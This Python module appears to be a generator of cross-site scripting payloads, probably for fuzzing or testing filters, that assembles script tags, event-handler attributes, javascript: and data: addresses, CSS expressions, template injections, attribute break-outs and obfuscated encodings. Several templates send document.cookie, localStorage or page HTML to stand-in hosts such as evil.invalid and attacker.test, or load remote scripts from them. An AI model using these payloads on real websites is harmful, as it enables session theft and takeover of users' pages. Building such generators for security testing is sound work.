"""Scripts put into pages: by an element, an attribute, an address, a style, a template, or code that is already there."""

from .draw import WORDS, Draw, Make, any_case

HANDLERS = (
    "load error click focus blur mouseover mouseenter mousemove mousedown mouseout mouseup toggle start begin end repeat "
    "pageshow hashchange resize scroll keydown keyup keypress change input submit select invalid wheel drag dragstart "
    "drop copy cut paste play playing canplay loadstart loadeddata loadedmetadata dblclick contextmenu animationstart "
    "animationend transitionend pointerover pointerenter pointerdown pointerrawupdate readystatechange finish bounce "
    "unload beforeunload message popstate auxclick beforeprint afterprint search touchstart touchend focusin focusout "
    "beforetoggle scrollend securitypolicyviolation slotchange timeupdate volumechange waiting show beforecut activate "
    "webkitanimationend webkittransitionend beforeinput formdata gotpointercapture cuechange durationchange"
).split()
ELEMENTS = (
    "img svg iframe object embed body html input button form video audio source link meta style base math marquee details "
    "textarea select keygen isindex bgsound animate set image frame frameset layer template noscript title a p div span "
    "xss custom x table td b i applet xml dialog canvas area track menu fieldset summary"
).split()
SPACES = (" ", " ", " ", "/", "\t", "\n", "%0a", "\x0c", "  ", " / ", "/*x*/", "%09")
SITES = ("//evil.invalid", "https://203.0.113.7", "//xn--e.invalid", "http://attacker.test", "//198.51.100.2", "//x.test")


def text(draw: Draw) -> str:
    return draw.of("1", "1", "'x'", '"x"', "document.domain", "document.cookie", "`1`", "origin", "/x/", draw.number(9999))


def code(draw: Draw) -> str:
    """Something that runs."""
    run = draw.word("alert alert alert prompt confirm print eval")
    inner, word, site = text(draw), draw.choice(WORDS), draw.choice(SITES)
    codes = "".join(f"\\u{ord(letter):04x}" for letter in run[:2]) + run[2:]
    numbers = ",".join(str(ord(letter)) for letter in f"{run}(1)")
    return draw.of(
        f"{run}({inner})",
        f"{run}({inner})",
        f"{run}({inner})",
        f"{run}`1`",
        f"({run})({inner})",
        f"window['{run}']({inner})",
        f"top[/{run[:2]}/.source+/{run[2:]}/.source]({inner})",
        f"self['{run[:3]}'+'{run[3:]}']({inner})",
        f"{codes}({inner})",
        f"eval(atob('{word}=='))",
        f"eval(String.fromCharCode({numbers}))",
        f"setTimeout('{run}({inner})')",
        f"[1].{draw.word('map find some every sort forEach filter')}({run})",
        f"[].{draw.word('sort map filter at')}.{draw.word('call apply bind')}`${{{run}}}1`",
        f"Reflect.apply({run},null,[{inner}])",
        f"Function('{run}({inner})')()",
        f"[].constructor.constructor('{run}({inner})')()",
        f"throw onerror={run},{inner}",
        f"import('{site}/{word}.js')",
        f"fetch('{site}/?'+document.cookie)",
        f"new Image().src='{site}/'+document.cookie",
        f"document.location='{site}/?c='+localStorage.{word}",
        f"navigator.sendBeacon('{site}',document.body.innerHTML)",
        f"document.write('<script src={site}></script>')",
        f"$.getScript('{site}')",
        f"{run}?.({inner})",
        f"({word}=>{run}({inner}))()",
        f"with(document){run}(cookie)",
        f"{run}\\x28{inner}\\x29",
        f"{run}&lpar;{inner}&rpar;",
        f"{run}&#40;{inner}&#41;",
        f"location='javascript:{run}\\x28{inner}\\x29'",
    )


def sink(draw: Draw) -> str:
    """Code that is put into a script of the page."""
    word, site, gap = draw.choice(WORDS), draw.choice(SITES), draw.of("", "", "/**/", f"/*{draw.choice(WORDS)}*/", " ")
    place = draw.of("document.body", f"document.getElementById('{word}')", f"document.querySelector('#{word}')", word, "this")
    return draw.of(
        f"{place}.innerHTML='<img src=x onerror={code(draw)}>'",
        f"{place}.insertAdjacentHTML('beforeend',{word})",
        f"document{gap}.{gap}cookie",
        f"document{gap}[{gap}'cookie'{gap}]",
        f"(document{gap})['cook'+'ie']",
        f"window{gap}.{gap}location='{site}'",
        f"{draw.word('self top parent frames globalThis window')}{gap}[{gap}'location'{gap}]{gap}=name",
        f"{place}.appendChild(document.createElement('{draw.word('script iframe img')}')).src='{site}'",
        f"{place}.outerHTML=location.hash.slice(1)",
        f"document.write(unescape('%3Cscript%3E'))",
        f"document.domain='{word}'",
        f"';{code(draw)};//",
        f'";{code(draw)};//',
        f"'-{code(draw)}-'",
        f'"+{code(draw)}+"',
        f"\\';{code(draw)}//",
        f"${{{code(draw)}}}",
        f"</script><script>{code(draw)}</script>",
        f"'}};{code(draw)};{{'",
        f"*/{code(draw)}/*",
        f"Object.prototype.{word}='{site}'",
        f"__proto__[{word}]=<script>{code(draw)}</script>",
        f"{word}.constructor.prototype.{word}={code(draw)}",
        nameless(draw),
        code(draw),
        code(draw),
    )


def nameless(draw: Draw) -> str:
    """Code spelt with signs alone, as far as it goes."""
    parts = ("![]", "!![]", "+[]", "+!+[]", "[![]]", "({}+[])", "[][[]]", "(+{}+[])", "[]+{}", "[+[]]", "[+!+[]]", "(!![]+[])")
    return draw.of("", "a=", "x=", "$=") + "+".join(draw.choice(parts) for _ in range(draw.randint(2, 6)))


def spelt(draw: Draw, word: str) -> str:
    """A word with something in it that a page drops."""
    at = draw.randrange(1, len(word))
    entity = draw.of(f"&#{ord(word[at])};", f"&#x{ord(word[at]):x};", f"&#0000{ord(word[at])}")
    return draw.of(
        word,
        word,
        word,
        any_case(draw, word),
        f"{word[:at]}{draw.of('&Tab;', '&NewLine;', '&#9;', '&#10;', '&#x0a;', chr(9), chr(10), '%09', chr(0))}{word[at:]}",
        f"{word[:at]}{entity}{word[at + 1:]}",
    )


def address(draw: Draw) -> str:
    colon = draw.of(":", ":", ":", "&colon;", "&#58;", "%3a", " :")
    script = spelt(draw, draw.word("javascript javascript javascript vbscript livescript")) + colon
    return draw.of(
        script + code(draw),
        script + code(draw),
        script + draw.of("//%0a", "/*x*/", "void(0);", "//", "%0a", " ") + code(draw),
        f"data:text/html,<script>{code(draw)}</script>",
        f"data:text/html;base64,{draw.choice(WORDS)}==",
        f"data:image/svg+xml,<svg onload={code(draw)}>",
        f"{draw.choice(SITES)}/{draw.choice(WORDS)}.{draw.word('js swf svg class html')}",
        script,
    )


def valued(draw: Draw, value: str) -> str:
    mark = draw.of("", "", '"', "'", "`")
    return draw.of("=", "=", " = ", " =", "= ", "\n=") + mark + value + mark


def handler(draw: Draw) -> str:
    name = "on" + draw.choice(HANDLERS)
    return draw.of(name, name, any_case(draw, name)) + valued(draw, draw.made((code, code, code, sink, address)))


def active(draw: Draw) -> str:
    """An attribute by which something is run or fetched."""
    return draw.of(
        f"{draw.word('href src action formaction data xlink:href poster background dynsrc lowsrc codebase code')}"
        + valued(draw, address(draw)),
        f"{draw.word('href src action formaction data xlink:href')}{valued(draw, address(draw))}",
        f"style{valued(draw, style(draw))}",
        f"srcdoc{valued(draw, f'<script>{code(draw)}</script>')}",
        f"http-equiv{valued(draw, draw.word('refresh set-cookie'))} content{valued(draw, '0;url=' + address(draw))}",
        f"attributeName={draw.word('href onload onmouseover')} to{valued(draw, address(draw))}",
        f"xmlns{draw.of('', ':x', ':xsi')}{valued(draw, draw.choice(SITES))} {handler(draw)}",
        f"implementation{valued(draw, address(draw))}",
    )


def idle(draw: Draw) -> str:
    """An attribute that helps another."""
    return draw.of(
        f"src={draw.of('x', '1', 'q', '#')}",
        "autofocus",
        "tabindex=1",
        "contenteditable",
        f"id={draw.choice(WORDS)}",
        "open",
        f"is={draw.choice(WORDS)}",
        f"rel={draw.word('import stylesheet')}",
        "style=display:block",
    )


def style(draw: Draw) -> str:
    site = draw.choice(SITES)
    return draw.of(
        f"{draw.word('width color x')}:{spelt(draw, 'expression')}({code(draw)})",
        f"{draw.word('background background-image list-style-image content')}:url({address(draw)})",
        f"{draw.of('-moz-', '')}{draw.word('binding behavior')}:url({site}/x.xml#x)",
        f"@{spelt(draw, 'import')} {draw.of('url(', '')}'{site}/x.css'",
        "position:fixed;top:0;left:0;width:100%;height:100%;z-index:999",
        f"animation-name:{draw.choice(WORDS)}",
    )


def element(draw: Draw) -> str:
    name = draw.choice(ELEMENTS)
    name = draw.of(name, name, name, any_case(draw, name))
    parts = [draw.made((handler, handler, active))]
    if draw.random() < 0.5:
        parts.insert(draw.randrange(2), draw.made((idle, handler, active)))
    space = draw.choice(SPACES)
    return f"<{name}{space}{space.join(parts)}{draw.of('>', '>', '/>', '', '//', ' ', f'></{name}>', '<')}"


def script(draw: Draw) -> str:
    tag = spelt(draw, "script") if draw.random() < 0.1 else draw.of("script", "script", "SCRIPT", any_case(draw, "script"))
    space, site = draw.choice(SPACES), draw.choice(SITES)
    return draw.of(
        f"<{tag}>{code(draw)}</{tag}>",
        f"<{tag}>{code(draw)}</{tag}>",
        f"<{tag}{space}src={site}></{tag}>",
        f"<{tag} >{code(draw)}",
        f"<<{tag}>{code(draw)}//<</{tag}>",
        f"<{tag}{space}type={draw.word('text/javascript module text/vbscript')}>{sink(draw)}</{tag}>",
        f"<scr<{tag}>ipt>{code(draw)}</scr</{tag}>ipt>",
        f"%3C{tag}%3E{code(draw)}%3C/{tag}%3E",
        f"\\u003c{tag}\\u003e{code(draw)}",
        f"\\x3c{tag}\\x3e{code(draw)}\\x3c/{tag}\\x3e",
        f"&lt;{tag}&gt;{code(draw)}&lt;/{tag}&gt;",
        f"+ADw-{tag}+AD4-{code(draw)}+ADw-/{tag}+AD4-",
        f"＜{tag}＞{code(draw)}＜/{tag}＞",
        f"<svg><{tag}>{code(draw)}",
        f"<![CDATA[<{tag}>{code(draw)}</{tag}>]]>",
        f"<!--><{tag}>{code(draw)}</{tag}>-->",
        f"<style>{style(draw)}</style>",
        f"<?{draw.word('import xml-stylesheet php')} {active(draw)}?>",
        f"<!--[if gte IE 4]><{tag}>{code(draw)}</{tag}><![endif]-->",
        f"<!--#{draw.word('exec include echo')} {draw.word('cmd file var')}=\"{draw.choice(WORDS)}\"-->",
        f"<!ENTITY x SYSTEM '{site}'>",
        f"<x:{tag} xmlns:x='http://www.w3.org/1999/xhtml'>{code(draw)}</x:{tag}>",
    )


def template(draw: Draw) -> str:
    open_, close = draw.choice((("{{", "}}"), ("${", "}"), ("#{", "}"), ("[[", "]]"), ("<%=", "%>"), ("{{=", "}}")))
    return open_ + draw.of(
        f"constructor.constructor('{code(draw)}')()",
        f"$on.constructor('{code(draw)}')()",
        f"_openBlock.constructor('{code(draw)}')()",
        f"[].pop.constructor&#40'{code(draw)}'&#41()",
        f"x={{'y':''.constructor.prototype}};x['y'].charAt=[].join;$eval('x={code(draw)}')",
        f"toString().constructor.prototype.charAt=[].join;[1]|orderBy:'{code(draw)}'",
        code(draw),
    ) + close


def broken_out(draw: Draw) -> str:
    """Out of an attribute or an element."""
    close = draw.of('">', "'>", '"', "'", '"/>', "</title>", "</textarea>", "-->", "</style>", "]]>", '" ', "' ", "`", ">", "--!>")
    if ">" in close:
        return close + draw.made((element, script, element))
    return f"{close} {draw.made((handler, handler, active))} {draw.of('', 'x=' + close, 'a=', close)}".rstrip()


def markdown(draw: Draw) -> str:
    return f"{draw.of('', '!')}[{draw.choice(WORDS)}]({address(draw)})"


def fragment(draw: Draw) -> str:
    """What one value has of a script put together of several, or that probes for what is let pass."""
    name = draw.choice(ELEMENTS)
    return draw.of(
        f"{draw.of('', ' ', chr(39) + ' ', chr(34) + ' ', '/')}{'on' + draw.choice(HANDLERS)}{draw.of('=', ' =', '= ', ' = ')}",
        f"{'on' + draw.choice(HANDLERS)}{draw.of('=', ' = ')}{draw.choice(WORDS)}",
        f"<{name}{draw.choice(SPACES)}{draw.word('src href data style onload action')}{draw.of('=', ' =', ' = ')}",
        address(draw),
        sink(draw),
        element(draw)[: draw.randint(14, 30)],
    )


FAMILIES: tuple[tuple[Make, int], ...] = (
    (element, 200),
    (script, 130),
    (broken_out, 140),
    (sink, 90),
    (address, 60),
    (template, 40),
    (markdown, 20),
    (fragment, 120),
)
